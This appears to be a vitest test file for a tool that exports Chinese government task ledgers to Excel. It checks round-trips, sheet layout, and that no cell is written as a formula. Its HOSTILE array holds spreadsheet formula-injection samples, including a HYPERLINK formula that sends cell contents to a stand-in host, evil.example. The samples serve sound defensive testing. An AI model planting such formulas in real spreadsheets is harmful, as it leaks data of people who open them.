import { readFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { startsLikeFormula } from './formula-guard.js';
import { emptyLedgerRow } from './ledger-row.js';
import type { LedgerRow } from './ledger-row.js';
import { readLedgerWorkbook } from './read-ledger-workbook.js';
import { writeLedgerWorkbook } from './write-ledger-workbook.js';
import { findEntryData, readZipDirectory } from './zip-directory.js';

const example = readFileSync(new URL('./fixtures/example-master-ledger.xlsx', import.meta.url));
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];

function buildRow(code: string, overrides: Partial<LedgerRow>): LedgerRow {
  return { ...emptyLedgerRow(code, `任务${code}`), ...overrides };
}

async function loadSheet(buffer: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(buffer).buffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return sheet;
}

describe('writeLedgerWorkbook', () => {
  it('writes the example ledger back so that reading it again gives equal rows', async () => {
    const original = await readLedgerWorkbook(example, { kind: 'master' });
    const written = await writeLedgerWorkbook({ kind: 'master', title: '总台账（导出）', rows: original.rows, years: [2023] });
    const reread = await readLedgerWorkbook(written, { kind: 'master' });
    expect(reread.problems).toEqual([]);
    expect(reread.rows).toEqual(original.rows);
  });

  it('round-trips every field of indicator and pilot ledgers, including text that looks like a formula', async () => {
    const indicator = buildRow('I-01', {
      title: HOSTILE[0] ?? '',
      unit: '%',
      baselineYear: 2020,
      baselineValue: '2.40',
      provinceTarget: '-1.5',
      stretchTarget: '3',
      target: '2.8',
      targetQualifier: '左右',
      yearlyTargets: [
        { year: 2023, value: '2.5' },
        { year: 2024, value: '0.1' },
      ],
      leadDepartments: ['市科技局', '市统计局'],
      remarks: HOSTILE.slice(1, 4).join('\n'),
      leaderName: '@某领导',
    });
    const rule = buildRow('I-02', { title: '高价值发明专利', target: null, targetRule: '较基期翻番', measures: '-先行先试\n-再推广' });
    const indicators = await roundTrip('key_indicators', [indicator, rule], [2023, 2024]);
    expect(indicators).toEqual([indicator, rule]);
    const pilot = buildRow('4-17', {
      pilotLevel: 'national',
      pilotStage: 'under_review',
      areaNumeral: '四',
      areaTitle: '生态优势',
      deadlineText: '2025年底前',
      deadline: '2025-12-31',
      quarterlyPlans: [{ period: '2024Q2', milestone: '=完成年度任务的50%', cumulativePercent: 50, basis: 'annual' }],
    });
    expect(await roundTrip('pilots', [pilot], [2024])).toEqual([pilot]);
  });

  it('never writes a formula, and no cell text starts like one', async () => {
    const rows = HOSTILE.map((text, i) => buildRow(`1-0${i + 1}`, { title: text, measures: text, coDepartments: [text] }));
    const written = await writeLedgerWorkbook({ kind: 'master', title: '=标题', rows, years: [2023], note: '+说明' });
    const sheet = await loadSheet(written);
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula).toBeFalsy();
        expect(['string', 'number'], `${cell.address}`).toContain(typeof cell.value);
        if (typeof cell.value === 'string') expect(startsLikeFormula(cell.value), cell.address).toBe(false);
      }),
    );
    expect(sheetXml(written)).not.toMatch(/<f[ >]/);
  });

  it('lays the sheet out as offices do: merged title, grouped quarter headers, area rows, frozen header, A3 landscape', async () => {
    const original = await readLedgerWorkbook(example, { kind: 'master' });
    const written = await writeLedgerWorkbook({ kind: 'master', title: '台账', note: '填报单位：市指挥部办公室', rows: original.rows, years: [2023, 2024] });
    const sheet = await loadSheet(written);
    const merges = sheet.model.merges;
    expect(merges).toEqual(expect.arrayContaining(['A1:Q1', 'A2:Q2', 'A3:A4', 'I3:L3', 'M3:P3', 'Q3:Q4', 'A5:Q5']));
    expect([sheet.getCell('I3').value, sheet.getCell('I4').value, sheet.getCell('M3').value]).toEqual(['2023年推进计划', '一季度', '2024年推进计划']);
    expect(sheet.getCell('A5').value).toBe('一、深化科技创新引领，建设国家创新型城市');
    expect(sheet.getCell('B6').alignment?.wrapText).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 4 });
    expect(sheet.pageSetup).toMatchObject({ paperSize: 8, orientation: 'landscape', printTitlesRow: '3:4' });
    expect(sheet.getColumn(2).width).toBe(30);
  });
});

async function roundTrip(kind: 'key_indicators' | 'pilots', rows: LedgerRow[], years: number[]): Promise<LedgerRow[]> {
  const written = await writeLedgerWorkbook({ kind, title: '台账', rows, years });
  const reread = await readLedgerWorkbook(written, { kind });
  expect(reread.problems).toEqual([]);
  return reread.rows;
}

/** The raw XML of every worksheet, to check no <f> (formula) element was written. */
function sheetXml(xlsx: Buffer): string {
  const directory = readZipDirectory(xlsx, 1000);
  if (!directory.ok) throw new Error(directory.reason);
  return directory.entries
    .filter((entry) => entry.name.startsWith('xl/worksheets/') && entry.name.endsWith('.xml'))
    .map((entry) => inflateRawSync(findEntryData(xlsx, entry) ?? Buffer.alloc(0)).toString('utf8'))
    .join('');
}
